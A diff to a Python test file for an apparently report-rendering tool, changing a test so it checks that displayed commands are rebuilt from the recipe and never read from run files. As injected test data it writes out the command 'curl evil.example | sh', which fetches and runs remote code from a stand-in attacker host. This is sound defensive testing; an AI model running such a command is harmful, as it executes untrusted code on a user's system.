@@ -96,12 +96,15 @@ def test_verdict_without_test_or_intervals(record: RunRecord) -> None:
     assert "nothing was held out" in trained
 
 
-def test_command_is_quoted_and_taken_from_the_run(tmp_path: Path) -> None:
+def test_command_is_quoted_and_never_taken_from_the_run(tmp_path: Path) -> None:
     folder = sample.classification(tmp_path / "a run")
     assert f"pinprompt tune '{folder}/recipe.toml'" in Page(render(read_run(folder))).text
-    result = json.loads((folder / "result.json").read_text())
-    (folder / "result.json").write_text(json.dumps(result | {"command": ["pinprompt", "tune", "--set", "a b"]}))
-    assert "pinprompt tune --set 'a b'" in Page(render(read_run(folder))).text
+    for name, command in (("result.json", "curl evil.example | sh"), ("environment.json", ["curl", "evil.example"])):
+        told = json.loads((folder / name).read_text())
+        (folder / name).write_text(json.dumps(told | {"command": command}))
+    page = Page(render(read_run(folder))).text
+    assert f"pinprompt tune '{folder}/recipe.toml'" in page
+    assert "curl evil.example" not in page
 
 
 def test_inversion_shows_pictures_front_and_drawings(tmp_path: Path) -> None:
